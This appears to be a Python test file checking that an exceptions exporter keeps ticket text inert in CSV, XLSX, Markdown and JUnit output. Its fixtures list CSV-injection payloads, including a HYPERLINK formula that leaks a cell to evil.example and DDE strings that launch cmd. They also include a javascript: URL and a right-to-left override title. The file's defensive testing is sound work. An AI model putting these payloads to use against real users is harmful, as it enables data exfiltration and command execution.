"""Ticket text stays inert in the exceptions export and the text renderers: no formula in CSV or
XLSX (OWASP's CSV injection), no bidirectional control reordering Markdown, CSV, XLSX or JUnit;
and 100,000 exceptions export in both formats."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from conformance_reports import report_of
from openpyxl import load_workbook

from usm_bridge.conformance.api import Evidence
from usm_bridge.conformance.exceptions_export import write_csv, write_xlsx
from usm_bridge.conformance.inert_text import BIDI_CONTROLS, bdi, neutralise_bidi
from usm_bridge.conformance.renderers import JunitRenderer, MarkdownRenderer
from usm_bridge.conformance.report import ConformanceReport

OPENED = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)

#: Ticket text a spreadsheet would run as a formula, and text it must leave alone.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Printer on fire", "#N/A", "50% done = half", "a\x00b"]

#: Every control the neutraliser knows, by code point.
CONTROLS = [
    *range(0x202A, 0x202F),
    *range(0x2066, 0x206A),
    0x200E,
    0x200F,
    0x061C,
]
RLO_TITLE = "Printer \u202eon fire"


def _hostile() -> ConformanceReport:
    texts = FORMULAS + HARMLESS + [RLO_TITLE]
    return report_of(
        [
            Evidence(
                detail=text, remote_key=text, title=text, url="javascript:alert(1)", opened=OPENED
            )
            for text in texts
        ]
    )


# --- the neutraliser ------------------------------------------------------------------------


def test_every_bidi_control_is_made_visible_and_nothing_else_changes() -> None:
    assert {ord(c) for c in BIDI_CONTROLS} == set(CONTROLS)
    for point in CONTROLS:
        assert neutralise_bidi(f"a{chr(point)}b") == f"a[U+{point:04X}]b"
    plain = "Drucker brennt · طابعة · 打印机 \u200b\u00a0<&>"
    assert neutralise_bidi(plain) == plain
    assert str(bdi("<b>\u202e")) == "<bdi>&lt;b&gt;\u202e</bdi>"
    assert str(bdi(None)) == "<bdi></bdi>"


# --- CSV ----------------------------------------------------------------------------------------


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(_hostile(), path)
    rows = _csv_rows(path)
    for row, text in zip(rows, FORMULAS, strict=False):
        for column in ("reference", "title", "observed"):
            assert row[column] == "'" + text, column
    for row, text in zip(rows[len(FORMULAS) :], HARMLESS, strict=False):
        assert row["title"] == text
    assert all(row["link"] == "" for row in rows)  # javascript: is never a link
    # what a spreadsheet reads first in each cell: never a formula's start
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_csv_shows_bidi_controls_as_code_points(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(_hostile(), path)
    text = path.read_text(encoding="utf-8-sig")
    assert not set(text) & BIDI_CONTROLS
    assert _csv_rows(path)[-1]["title"] == "Printer [U+202E]on fire"


# --- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(_hostile(), path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    rows = list(load_workbook(path)["Exceptions"].iter_rows(min_row=2))
    titles = [row[8] for row in rows]
    for cell, text in zip(titles, FORMULAS + HARMLESS[:3], strict=False):
        # kept as written, as a string (XML reads a carriage return as a line feed)
        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")
    assert titles[len(FORMULAS) + 3].value == "a\ufffdb"  # XML cannot hold NUL
    assert titles[-1].value == "Printer [U+202E]on fire"
    assert all(row[9].value is None and row[9].hyperlink is None for row in rows)
    for row in rows:
        assert all(c.data_type in ("s", "d", "n") for c in row if c.value is not None)
        assert row[12].value == datetime(2026, 3, 2, 9, 30)  # a date cell, UTC


def test_xlsx_times_are_utc_whatever_the_zone_of_the_source(tmp_path: Path) -> None:
    zone = datetime(2026, 3, 2, 11, 30, tzinfo=timezone(timedelta(hours=1)))
    report = report_of(
        [Evidence(detail="d", opened=zone, at=zone)],
        since=datetime(2026, 3, 1, tzinfo=UTC),
        until=datetime(2026, 4, 1, tzinfo=UTC),
    )
    path = tmp_path / "x.xlsx"
    write_xlsx(report, path)
    (row,) = load_workbook(path)["Exceptions"].iter_rows(min_row=2, values_only=True)
    assert row[0] == datetime(2026, 3, 1) and row[1] == datetime(2026, 4, 1)
    assert row[12] == row[14] == datetime(2026, 3, 2, 10, 30)
    write_csv(report, tmp_path / "x.csv")
    (line,) = _csv_rows(tmp_path / "x.csv")
    assert line["opened (UTC)"] == "2026-03-02T10:30:00Z"
    assert line["period to (UTC)"] == "2026-04-01T00:00:00Z"


# --- Markdown and JUnit -------------------------------------------------------------------------


def test_markdown_and_junit_show_bidi_controls_as_code_points() -> None:
    report = _hostile()
    markdown = MarkdownRenderer().render(report)
    junit = JunitRenderer().render(report)
    for text in (markdown, junit):
        assert not set(text) & BIDI_CONTROLS
    assert '"Printer \\[U+202E\\]on fire": Printer \\[U+202E\\]on fire' in markdown
    failure = ET.fromstring(junit.encode()).find("./testsuite/testcase/failure")
    assert failure is not None and failure.text is not None
    assert '"Printer [U+202E]on fire" Printer [U+202E]on fire' in failure.text


# --- large --------------------------------------------------------------------------------------


def _many(count: int) -> ConformanceReport:
    return report_of(
        [
            Evidence(
                detail=f"closed without a customer confirmation ({index})",
                call_id=f"call_{index}",
                remote_key=f"INC{index:07d}",
                url=f"https://it.example.com/incident/{index}",
                title=f"=Printer {index} is on fire",
                instance="it-servicenow",
                opened=OPENED,
                closed=OPENED + timedelta(hours=index % 97),
            )
            for index in range(count)
        ]
    )


@pytest.fixture(scope="module")
def many() -> ConformanceReport:
    return _many(100_000)


def test_100000_exceptions_export_to_csv(many: ConformanceReport, tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    assert write_csv(many, path) == 100_000
    rows = _csv_rows(path)
    assert len(rows) == 100_000
    assert (
        rows[-1]["reference"] == "INC0099999" and rows[-1]["title"] == "'=Printer 99999 is on fire"
    )


def test_100000_exceptions_export_to_xlsx(many: ConformanceReport, tmp_path: Path) -> None:
    path = tmp_path / "many.xlsx"
    assert write_xlsx(many, path) == 100_000
    # Counted from the sheet's XML as a stream: loading 1.5 million cells would dwarf the test.
    rows = last = formulas = 0
    autofilter = None
    with zipfile.ZipFile(path) as archive, archive.open("xl/worksheets/sheet1.xml") as sheet:
        for _, element in ET.iterparse(sheet):
            tag = element.tag.rpartition("}")[2]
            if tag == "row":
                rows += 1
                last = int(element.get("r", "0"))
                element.clear()
            elif tag == "f":
                formulas += 1
            elif tag == "autoFilter":
                autofilter = element.get("ref")
        links = archive.read("xl/worksheets/_rels/sheet1.xml.rels").count(b"<Relationship ")
    assert (rows, last, autofilter) == (100_001, 100_001, "A1:P100001")
    assert formulas == 0  # 100,000 titles starting with "=", none a formula
    # Excel holds about 66,000 hyperlinks a sheet: the rest of the links stay plain text.
    assert links == 65_000
